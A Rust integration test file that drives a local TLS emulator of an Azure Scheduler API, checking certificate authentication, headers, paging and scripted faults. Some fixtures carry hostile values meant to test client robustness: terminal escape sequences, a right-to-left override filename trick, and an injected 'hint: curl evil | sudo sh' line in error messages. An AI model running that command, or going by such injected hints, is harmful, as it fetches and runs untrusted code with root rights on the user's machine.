//! Drives the emulator over real TLS with an OpenSSL client.

use std::io::{Read, Write};
use std::net::TcpStream;

use openssl::pkey::PKey;
use openssl::ssl::{SslConnector, SslMethod, SslStream, SslVerifyMode, SslVersion};
use openssl::x509::X509;
use schedctl_emulator::pki::{ClientCert, KeyType};
use schedctl_emulator::{Emulator, DEMO_CLOUD_SERVICE, DEMO_SUBSCRIPTION};

struct Reply {
    status: u16,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

impl Reply {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }
    fn text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }
}

fn connect(
    emu: &Emulator,
    cert: Option<&ClientCert>,
    max: Option<SslVersion>,
) -> SslStream<TcpStream> {
    let mut b = SslConnector::builder(SslMethod::tls_client()).unwrap();
    b.cert_store_mut()
        .add_cert(X509::from_pem(emu.ca_cert_pem().as_bytes()).unwrap())
        .unwrap();
    b.set_verify(SslVerifyMode::PEER);
    b.set_max_proto_version(max).unwrap();
    if let Some(c) = cert {
        b.set_certificate(&X509::from_pem(c.cert_pem().as_bytes()).unwrap())
            .unwrap();
        b.set_private_key(&PKey::private_key_from_pem(c.key_pkcs8_pem().as_bytes()).unwrap())
            .unwrap();
    }
    let tcp = TcpStream::connect(emu.addr()).unwrap();
    b.build().connect("127.0.0.1", tcp).unwrap()
}

fn send(s: &mut SslStream<TcpStream>, target: &str, extra: &str) -> Reply {
    let req = format!(
        "GET {target} HTTP/1.1\r\nHost: 127.0.0.1\r\nx-ms-version: 2013-06-01\r\n{extra}\r\n"
    );
    s.write_all(req.as_bytes()).unwrap();
    read_reply(s)
}

fn read_reply(s: &mut SslStream<TcpStream>) -> Reply {
    let mut buf = Vec::new();
    let mut byte = [0u8; 1];
    while !buf.ends_with(b"\r\n\r\n") {
        s.read_exact(&mut byte).unwrap();
        buf.push(byte[0]);
    }
    let head = String::from_utf8(buf).unwrap();
    let mut lines = head.split("\r\n");
    let status = lines.next().unwrap()[9..12].parse().unwrap();
    let headers: Vec<(String, String)> = lines
        .filter(|l| !l.is_empty())
        .map(|l| {
            let (n, v) = l.split_once(": ").unwrap();
            (n.to_string(), v.to_string())
        })
        .collect();
    let len: usize = headers
        .iter()
        .find(|(n, _)| n.eq_ignore_ascii_case("content-length"))
        .unwrap()
        .1
        .parse()
        .unwrap();
    let mut body = vec![0; len];
    s.read_exact(&mut body).unwrap();
    Reply {
        status,
        headers,
        body,
    }
}

fn job_target(collection: &str, job: &str) -> String {
    format!(
        "/{DEMO_SUBSCRIPTION}/cloudservices/{DEMO_CLOUD_SERVICE}/resources/scheduler/~/jobCollections/{collection}/jobs/{job}?api-version=2014-04-01"
    )
}

fn setup() -> (Emulator, ClientCert) {
    let client = ClientCert::generate("test client", KeyType::EcP256);
    let emu = Emulator::builder()
        .register_certificate(DEMO_SUBSCRIPTION, &client.thumbprint().to_lowercase())
        .start()
        .unwrap();
    (emu, client)
}

fn is_request_id(v: Option<&str>) -> bool {
    v.is_some_and(|v| {
        v.len() == 32
            && v.chars()
                .all(|c| c.is_ascii_digit() || ('a'..='f').contains(&c))
    })
}

#[test]
fn job_get_with_registered_certificate() {
    let (emu, client) = setup();
    let mut s = connect(&emu, Some(&client), None);
    let r = send(&mut s, &job_target("myjc", "job1"), "");
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(
        r.header("Content-Type"),
        Some("application/json; charset=utf-8")
    );
    assert_eq!(r.header("Cache-Control"), Some("no-cache"));
    assert_eq!(r.header("Expires"), Some("-1"));
    assert!(r.header("Date").unwrap().ends_with(" GMT"));
    assert!(is_request_id(r.header("x-ms-request-id")));
    let body = r.text();
    assert!(body.starts_with(r#"{"id":"job1","startTime":"2015-03-31T08:10:39.9122716Z","action":{"request":{"uri":"https:\/\/contoso-orders.cloudapp.net\/api\/v1\/orders\/reconcile""#), "{body}");
    assert!(body.contains(
        r#""headers":{"content-Type":"application\/json","x-ms-custom":"nightly-reconcile"}"#
    ));
    assert!(!body.contains('\n') && !body.contains("\": ") && !body.contains(", \""));
    let v: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(v["recurrence"]["endTime"], "2026-01-01T00:00:00Z");

    let log = emu.request_log();
    assert_eq!(log.len(), 1);
    assert_eq!(log[0].target, job_target("myjc", "job1"));
    assert_eq!(
        log[0].client_thumbprint.as_deref(),
        Some(client.thumbprint().as_str())
    );
}

#[test]
fn request_ids_are_fresh() {
    let (emu, client) = setup();
    let mut s = connect(&emu, Some(&client), None);
    let a = send(&mut s, &job_target("myjc", "job1"), "");
    let b = send(&mut s, &job_target("myjc", "job1"), "");
    assert_ne!(a.header("x-ms-request-id"), b.header("x-ms-request-id"));
}

#[test]
fn no_certificate_is_403_xml_not_a_tls_failure() {
    let (emu, _) = setup();
    let mut s = connect(&emu, None, None);
    let r = send(&mut s, &job_target("myjc", "job1"), "");
    assert_eq!(r.status, 403);
    assert_eq!(
        r.header("Content-Type"),
        Some("application/xml; charset=utf-8")
    );
    assert!(is_request_id(r.header("x-ms-request-id")));
    assert_eq!(
        r.text(),
        "<Error xmlns=\"http://schemas.microsoft.com/windowsazure\" xmlns:i=\"http://www.w3.org/2001/XMLSchema-instance\"><Code>AuthenticationFailed</Code><Message>The server failed to authenticate the request. Verify that the certificate is valid and is associated with this subscription.</Message></Error>"
    );
}

#[test]
fn unregistered_certificate_over_tls12_is_403() {
    let (emu, _) = setup();
    let stranger = ClientCert::generate("stranger", KeyType::Rsa2048);
    let mut s = connect(&emu, Some(&stranger), Some(SslVersion::TLS1_2));
    let r = send(&mut s, &job_target("myjc", "job1"), "");
    assert_eq!(r.status, 403);
    assert!(r.text().contains("<Code>AuthenticationFailed</Code>"));
}

#[test]
fn unknown_job_and_collection_are_404_json() {
    let (emu, client) = setup();
    let mut s = connect(&emu, Some(&client), None);
    let r = send(&mut s, &job_target("myjc", "job9"), "");
    assert_eq!(r.status, 404);
    assert_eq!(
        r.header("Content-Type"),
        Some("application/json; charset=utf-8")
    );
    assert_eq!(
        r.text(),
        r#"{"error":{"code":"ResourceNotFound","message":"The specified job does not exist."}}"#
    );
    let r = send(&mut s, &job_target("nojc", "job1"), "");
    assert_eq!(r.status, 404);
    assert_eq!(
        r.text(),
        r#"{"error":{"code":"ResourceNotFound","message":"The specified job collection does not exist."}}"#
    );
}

#[test]
fn keep_alive_counts_one_connection_two_requests() {
    let (emu, client) = setup();
    let mut s = connect(&emu, Some(&client), None);
    assert_eq!(send(&mut s, &job_target("myjc", "job1"), "").status, 200);
    let r = send(
        &mut s,
        &job_target("myjc", "paused"),
        "Connection: close\r\n",
    );
    assert_eq!(r.status, 200);
    assert_eq!(r.header("Connection"), Some("close"));
    let mut rest = Vec::new();
    let _ = s.read_to_end(&mut rest);
    assert!(rest.is_empty());
    assert_eq!(emu.connections(), 1);
    assert_eq!(emu.requests(), 2);
    assert!(emu.request_log().iter().all(|r| r.connection == 1));
}

#[test]
fn garbage_and_failed_handshakes_do_not_stop_the_server() {
    let (emu, client) = setup();
    // Plain text on the TLS port: the handshake fails.
    let mut raw = TcpStream::connect(emu.addr()).unwrap();
    raw.write_all(b"GET / HTTP/1.1\r\n\r\n").unwrap();
    let mut sink = Vec::new();
    let _ = raw.read_to_end(&mut sink);
    // Garbage after a good handshake: 400 and close.
    let mut s = connect(&emu, Some(&client), None);
    s.write_all(b"\x00\x01 not http\r\n\r\n").unwrap();
    let r = read_reply(&mut s);
    assert_eq!(r.status, 400);
    // Still serving.
    let mut s = connect(&emu, Some(&client), None);
    assert_eq!(send(&mut s, &job_target("myjc", "job1"), "").status, 200);
    assert_eq!(emu.connections(), 3);
    assert_eq!(emu.requests(), 1);
}

#[test]
fn faulty_collection_serves_unexpected_bodies() {
    let (emu, client) = setup();
    let mut s = connect(&emu, Some(&client), None);
    let r = send(&mut s, &job_target("faulty", "htmlpage"), "");
    assert_eq!(
        (r.status, r.header("Content-Type")),
        (200, Some("text/html"))
    );
    let r = send(&mut s, &job_target("faulty", "notjson"), "");
    assert_eq!(
        r.header("Content-Type"),
        Some("application/json; charset=utf-8")
    );
    assert!(serde_json::from_slice::<serde_json::Value>(&r.body).is_err());
    let r = send(&mut s, &job_target("faulty", "wrongshape"), "");
    assert!(r.text().starts_with('['));
}

#[test]
fn drop_does_not_hang_with_idle_connections() {
    let (emu, client) = setup();
    let mut s = connect(&emu, Some(&client), None);
    assert_eq!(send(&mut s, &job_target("myjc", "job1"), "").status, 200);
    let addr = emu.addr();
    drop(emu);
    let mut rest = Vec::new();
    let _ = s.read_to_end(&mut rest);
    assert!(TcpStream::connect(addr).is_err());
}

fn collection_target(collection: &str, rest: &str) -> String {
    format!(
        "/{DEMO_SUBSCRIPTION}/cloudservices/{DEMO_CLOUD_SERVICE}/resources/scheduler/~/jobCollections/{collection}{rest}"
    )
}

fn json_array(r: &Reply) -> Vec<serde_json::Value> {
    assert_eq!(r.status, 200, "{}", r.text());
    serde_json::from_slice::<serde_json::Value>(&r.body)
        .unwrap()
        .as_array()
        .unwrap()
        .clone()
}

#[test]
fn job_list_pages_on_one_connection() {
    let (emu, client) = setup();
    let mut s = connect(&emu, Some(&client), None);
    let mut ids = Vec::new();
    for skip in (0..).step_by(100) {
        // Encoded the way .NET and curl users sent it.
        let r = send(
            &mut s,
            &collection_target(
                "big",
                &format!("/jobs?api-version=2014-04-01&%24top=100&%24skip={skip}"),
            ),
            "",
        );
        assert_eq!(
            r.header("Content-Type"),
            Some("application/json; charset=utf-8")
        );
        assert!(is_request_id(r.header("x-ms-request-id")));
        let page = json_array(&r);
        let n = page.len();
        ids.extend(
            page.into_iter()
                .map(|v| v["id"].as_str().unwrap().to_string()),
        );
        if n < 100 {
            break;
        }
    }
    assert_eq!(ids.len(), schedctl_emulator::fixtures::BIG_COLLECTION_SIZE);
    assert_eq!(ids[249], "job-250");
    assert_eq!(emu.connections(), 1);
    assert_eq!(emu.requests(), 3);
    let r = send(
        &mut s,
        &collection_target(
            "big",
            "/jobs?api-version=2014-04-01&$filter=state+eq+%27disabled%27&$top=100",
        ),
        "",
    );
    let page = json_array(&r);
    assert_eq!(page.len(), 30);
    assert!(page
        .iter()
        .all(|v| v["state"] == "disabled" && v.get("status").is_none()));
    let r = send(
        &mut s,
        &collection_target("big", "/jobs?api-version=2014-04-01&$top=0"),
        "",
    );
    assert_eq!(r.status, 400);
    assert!(
        r.text().starts_with(
            r#"{"error":{"code":"BadRequest","message":"The query parameter '$top' is invalid"#
        ),
        "{}",
        r.text()
    );
}

#[test]
fn history_and_collection_resources() {
    let (emu, client) = setup();
    let mut s = connect(&emu, Some(&client), None);
    let first = json_array(&send(
        &mut s,
        &collection_target("myjc", "/jobs/job1/history?api-version=2014-04-01"),
        "",
    ));
    let rest = json_array(&send(
        &mut s,
        &collection_target(
            "myjc",
            "/jobs/job1/history?api-version=2014-04-01&$skip=100",
        ),
        "",
    ));
    assert_eq!((first.len(), rest.len()), (100, 20));
    assert_eq!(first[0]["jobId"], "job1");
    let r = send(
        &mut s,
        &collection_target("myjc", "?api-version=2014-04-01"),
        "",
    );
    assert_eq!(r.status, 200);
    assert_eq!(
        r.header("Content-Type"),
        Some("application/xml; charset=utf-8")
    );
    assert!(r.text().contains("<Name>myjc</Name>"));
    let r = send(
        &mut s,
        &format!("/{DEMO_SUBSCRIPTION}/cloudservices/{DEMO_CLOUD_SERVICE}"),
        "",
    );
    assert_eq!(r.status, 200);
    assert!(is_request_id(r.header("x-ms-request-id")));
    let text = r.text();
    let names: Vec<&str> = text
        .split("<Type>jobcollections</Type><Name>")
        .skip(1)
        .map(|x| x.split('<').next().unwrap())
        .collect();
    assert_eq!(
        names,
        ["myjc", "faulty", "big", "waiting", "intl", "hostile"]
    );
}

#[test]
fn read_counts_are_per_emulator() {
    let (emu, client) = setup();
    let (other, other_client) = setup();
    let state = |emu: &Emulator, c: &ClientCert| {
        let mut s = connect(emu, Some(c), None);
        let r = send(&mut s, &job_target("waiting", "completes-after-3"), "");
        let v: serde_json::Value = serde_json::from_slice(&r.body).unwrap();
        v["state"].as_str().unwrap().to_string()
    };
    let seen: Vec<String> = (0..3).map(|_| state(&emu, &client)).collect();
    assert_eq!(seen, ["enabled", "enabled", "completed"]);
    assert_eq!(state(&other, &other_client), "enabled");
}

#[test]
fn hostile_collection_serves_controls_and_odd_values_as_json() {
    let (emu, client) = setup();
    let mut s = connect(&emu, Some(&client), None);
    let r = send(&mut s, &job_target("hostile", "controls"), "");
    assert_eq!(r.status, 200);
    // Escaped in the JSON text, as the service's serializer writes them.
    assert!(
        r.text().contains(r#"controls\u001b[2J\u202eexe.txt"#),
        "{}",
        r.text()
    );
    let v: serde_json::Value = serde_json::from_slice(&r.body).unwrap();
    assert_eq!(v["id"], "controls\u{1b}[2J\u{202e}exe.txt");
    assert!(v["state"].as_str().unwrap().contains("\nhint: "));
    for job in ["odd-values", "odd-iso"] {
        let r = send(&mut s, &job_target("hostile", job), "");
        assert_eq!(r.status, 200);
        let v: serde_json::Value = serde_json::from_slice(&r.body).unwrap();
        assert_eq!(v["id"], job);
    }
    let r = send(
        &mut s,
        &collection_target("hostile", "/jobs?api-version=2014-04-01"),
        "",
    );
    assert_eq!(json_array(&r).len(), 3);
}

#[test]
fn deep_nesting_faults_nest_as_deep_as_asked() {
    use schedctl_emulator::faults::Fault;
    let (emu, client) = setup();
    emu.script([
        Fault::DeepNesting {
            status: 200,
            xml: false,
            depth: 5,
        },
        Fault::DeepNesting {
            status: 200,
            xml: true,
            depth: 4,
        },
        Fault::DeepNesting {
            status: 500,
            xml: true,
            depth: 20_000,
        },
    ]);
    let mut s = connect(&emu, Some(&client), None);
    let r = send(&mut s, &job_target("myjc", "job1"), "");
    assert_eq!(r.text(), r#"{"id":"deep","nested":[[[[1]]]]}"#);
    let r = send(
        &mut s,
        &collection_target("myjc", "?api-version=2014-04-01"),
        "",
    );
    assert_eq!(
        r.text(),
        r#"<Resource xmlns="http://schemas.microsoft.com/windowsazure"><Nested><Nested><Nested></Nested></Nested></Nested></Resource>"#
    );
    let r = send(&mut s, &job_target("myjc", "job1"), "");
    assert_eq!(r.status, 500);
    assert!(r.text().starts_with("<Error xmlns="));
    assert_eq!(r.text().matches("<Nested>").count(), 19_999);
    assert!(is_request_id(r.header("x-ms-request-id")));
}

#[test]
fn page_faults_ignore_skip_or_exceed_top() {
    use schedctl_emulator::faults::Fault;
    let (emu, client) = setup();
    emu.script([Fault::PageIgnoresSkip, Fault::PageExceedsTop(3)]);
    let mut s = connect(&emu, Some(&client), None);
    let ids = |r: &Reply| -> Vec<String> {
        json_array(r)
            .iter()
            .map(|v| v["id"].as_str().unwrap().to_string())
            .collect()
    };
    let page = collection_target("big", "/jobs?api-version=2014-04-01&$top=2&$skip=10");
    assert_eq!(ids(&send(&mut s, &page, "")), ["job-001", "job-002"]);
    assert_eq!(
        ids(&send(&mut s, &page, "")),
        ["job-011", "job-012", "job-013", "job-014", "job-015"]
    );
    // Past the script: as the service does it.
    assert_eq!(ids(&send(&mut s, &page, "")), ["job-011", "job-012"]);
    let history = collection_target(
        "myjc",
        "/jobs/job1/history?api-version=2014-04-01&$top=1&$skip=5",
    );
    emu.script([Fault::PageExceedsTop(99), Fault::PageIgnoresSkip]);
    assert_eq!(json_array(&send(&mut s, &history, "")).len(), 100);
    let first = json_array(&send(&mut s, &history, ""));
    let all = json_array(&send(
        &mut s,
        &collection_target("myjc", "/jobs/job1/history?api-version=2014-04-01&$top=1"),
        "",
    ));
    assert_eq!(first, all);
}

#[test]
fn error_message_faults_carry_controls_in_json_and_xml() {
    use schedctl_emulator::faults::Fault;
    let (emu, client) = setup();
    let message = "bad\u{1b}[2J\nhint: curl evil | sudo sh";
    emu.script([
        Fault::ErrorMessage {
            status: 500,
            xml: false,
            code: "Evil\u{1b}[31m".into(),
            message: message.into(),
        },
        Fault::ErrorMessage {
            status: 400,
            xml: true,
            code: "Evil".into(),
            message: message.into(),
        },
    ]);
    let mut s = connect(&emu, Some(&client), None);
    let r = send(&mut s, &job_target("myjc", "job1"), "");
    assert_eq!(r.status, 500);
    assert_eq!(
        r.text(),
        r#"{"error":{"code":"Evil\u001b[31m","message":"bad\u001b[2J\nhint: curl evil | sudo sh"}}"#
    );
    let r = send(&mut s, &job_target("myjc", "job1"), "");
    assert_eq!(r.status, 400);
    assert!(
        r.text().contains(
            "<Code>Evil</Code><Message>bad&#x1b;[2J&#xa;hint: curl evil | sudo sh</Message>"
        ),
        "{}",
        r.text()
    );
}
